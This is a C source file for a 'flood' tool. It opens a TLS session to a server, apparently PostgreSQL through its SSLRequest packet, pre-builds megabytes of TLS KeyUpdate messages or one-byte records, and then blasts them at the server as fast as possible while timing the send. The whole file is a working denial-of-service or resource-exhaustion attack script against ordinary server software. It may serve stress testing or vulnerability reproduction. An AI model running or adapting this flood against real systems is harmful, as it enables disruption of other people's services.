/* flood HOST PORT SECONDS keyupdate|records: after the handshake, what was made ready is sent
 * as fast as it goes. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}
int main(int c, char **v)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(v[2]))};
	inet_pton(AF_INET, v[1], &a.sin_addr);
	(void)c;
	signal(SIGPIPE, SIG_IGN);
	if (connect(fd, (void *)&a, sizeof a))
		return 1;
	unsigned char r[8] = {0, 0, 0, 8, 4, 210, 22, 47}, x;
	if (write(fd, r, 8) != 8 || read(fd, &x, 1) != 1 || x != 'S')
		return 2;
	SSL_CTX *k = SSL_CTX_new(TLS_client_method());
	SSL *s = SSL_new(k);
	SSL_set_fd(s, fd);
	if (SSL_connect(s) != 1)
		return 3;
	int records = !strcmp(v[4], "records");
	size_t want = (size_t)atol(v[5]) << 20;
	BIO *m = BIO_new(BIO_s_mem());
	SSL_set0_wbio(s, m);
	if (records) { /* an invalid startup packet first: the client is leaving */
		char bad[] = {0, 0, 0, 9, 0, 9, 0, 0, 0};
		SSL_write(s, bad, 9);
	}
	size_t n = 0;
	char one = 'x';
	while ((size_t)BIO_ctrl_pending(m) < want) {
		if (records)
			SSL_write(s, &one, 1);
		else {
			SSL_key_update(s, SSL_KEY_UPDATE_NOT_REQUESTED);
			if (SSL_do_handshake(s) != 1)
				return 4;
		}
		n++;
	}
	char *d;
	long len = BIO_get_mem_data(m, &d);
	printf("ready %zu %ld\n", n, len);
	fflush(stdout);
	getchar();
	double t = now();
	long at = 0;
	while (at < len) {
		ssize_t w = write(fd, d + at, len - at);
		if (w <= 0) {
			perror("write");
			break;
		}
		at += w;
	}
	printf("sent %ld in %.2f s\n", at, now() - t);
	return 0;
}
